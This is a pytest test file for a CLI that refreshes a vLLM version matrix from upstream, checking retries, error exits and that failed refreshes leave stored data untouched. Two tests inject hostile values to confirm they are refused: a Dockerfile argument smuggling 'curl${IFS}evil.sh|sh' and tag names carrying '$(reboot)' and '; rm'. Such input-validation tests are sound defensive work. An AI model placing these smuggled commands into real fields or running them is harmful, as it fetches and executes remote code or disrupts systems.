"""Upstream failures leave the data untouched: no overlay, a one-line error, exit 4."""

from __future__ import annotations

from pathlib import Path

import pytest
from typer.testing import CliRunner

from resolver.cli import app
from resolver.data import overlay
from resolver.refresh.common import Endpoints
from resolver.refresh.http import HttpClient
from resolver.refresh.runner import refresh

from .conftest import drop_records
from .server import Upstream

runner = CliRunner()
TAGS = "/repos/vllm-project/vllm/tags"
V0100 = (
    "/raw/vllm-project/vllm/6d8d0a24c02bfd84d46b3016b865a44f048ae84b/docker/Dockerfile.rocm_base"
)


def fast_client() -> HttpClient:
    # Short read timeout so the "timeout" fault trips quickly; no real sleeping between retries.
    return HttpClient(cache_dir=None, timeout=(2.0, 0.5), retries=2, sleep=lambda _s: None)


@pytest.fixture
def without_0100(matrix_copy: Path) -> Path:
    drop_records(matrix_copy / "vllm.toml", "version", {"0.10.0"})
    return matrix_copy


def test_500s_then_success_is_retried_and_written(upstream: Upstream, without_0100: Path) -> None:
    upstream.faults[TAGS] = ["500", "429"]
    outcome = refresh(["vllm"], write=True, client=fast_client(), endpoints=Endpoints.from_env())
    assert [c.key for c in outcome.changes] == ["0.10.0"]
    assert outcome.written is not None
    statuses = [s.status for s in upstream.requests(TAGS)]
    assert statuses[:3] == [500, 429, 200]


@pytest.mark.parametrize(
    ("path", "faults", "message"),
    [
        (TAGS, ["500"] * 5, "failed after 3 attempts: HTTP 500"),
        (TAGS, ["timeout"] * 5, "failed after 3 attempts: "),
        (TAGS, ["malformed"], "is not valid JSON"),
        (V0100, ["truncate"] * 5, "failed after 3 attempts: "),
    ],
    ids=["500s", "timeouts", "malformed-json", "truncated-file"],
)
def test_failure_leaves_the_data_untouched(
    upstream: Upstream,
    without_0100: Path,
    path: str,
    faults: list[str],
    message: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    upstream.faults[path] = list(faults)
    monkeypatch.setattr("resolver.refresh.runner.HttpClient", lambda **_kw: fast_client())
    result = runner.invoke(app, ["matrix", "refresh", "--source", "vllm", "--write"])
    assert result.exit_code == 4, result.output
    assert message in result.output
    assert "hint:" in result.output
    assert "Traceback" not in result.output
    assert not overlay.overlay_path().exists()


def test_failure_after_an_earlier_write_keeps_the_old_overlay(
    upstream: Upstream, without_0100: Path
) -> None:
    refresh(["vllm"], write=True)
    before = overlay.overlay_path().read_bytes()
    drop_records(without_0100 / "vllm.toml", "version", {"0.8.3"})
    upstream.faults[TAGS] = ["500"] * 5
    with pytest.raises(Exception, match="HTTP 500"):
        refresh(["vllm"], write=True, client=fast_client())
    assert overlay.overlay_path().read_bytes() == before
    assert not [p for p in overlay.overlay_path().parent.iterdir() if p.name.endswith(".tmp")]


def test_hostile_ref_in_a_dockerfile_is_refused_and_named(
    upstream: Upstream, without_0100: Path
) -> None:
    real = (Path(__file__).parent / "recorded" / "raw" / V0100[len("/raw/") :]).read_text()
    upstream.overrides[V0100] = real.replace(
        'ARG TRITON_BRANCH="e5be006"', 'ARG TRITON_BRANCH="e5be006;curl${IFS}evil.sh|sh"'
    ).encode()
    result = runner.invoke(app, ["matrix", "refresh", "--source", "vllm", "--write"])
    assert result.exit_code == 0, result.output  # nothing acceptable changed
    assert "refused (1, never written):" in result.output
    assert (
        "[vllm] vllm.toml 0.10.0: vllm.toml: 0.10.0.stack[0]: field 'pins.triton.ref'"
        in result.output
    )
    assert not overlay.overlay_path().exists()


def test_hostile_and_bogus_tag_names_are_refused(upstream: Upstream, matrix_copy: Path) -> None:
    page = (
        '[{"name": "v0.99.0$(reboot)", "commit": {"sha": "%s"}}, {"name": "v0.99.1", "commit": '
        '{"sha": "x; rm"}}]'
    )
    upstream.overrides[TAGS] = (page % ("a" * 40)).encode()
    outcome = refresh(["vllm"])
    whats = {r.what for r in outcome.refused}
    assert "tag 'v0.99.0$(reboot)'" in whats
    assert "tag v0.99.1" in whats
    assert not outcome.changes


def test_truncated_dockerfile_content_is_refused(upstream: Upstream, without_0100: Path) -> None:
    # A file cut short but delivered whole (no transport error): the facts it lacks refuse it.
    real = (Path(__file__).parent / "recorded" / "raw" / V0100[len("/raw/") :]).read_text()
    upstream.overrides[V0100] = real[:120].encode()  # stops before PYTORCH_ROCM_ARCH
    outcome = refresh(["vllm"], write=True)
    assert not outcome.changes
    assert outcome.written is None
    (refusal,) = outcome.refused
    assert "give no arch" in refusal.reason


def test_unknown_source_is_a_usage_error(upstream: Upstream) -> None:
    result = runner.invoke(app, ["matrix", "refresh", "--source", "pypi"])
    assert result.exit_code == 2
    assert "--source pypi is not a refresh source" in result.output
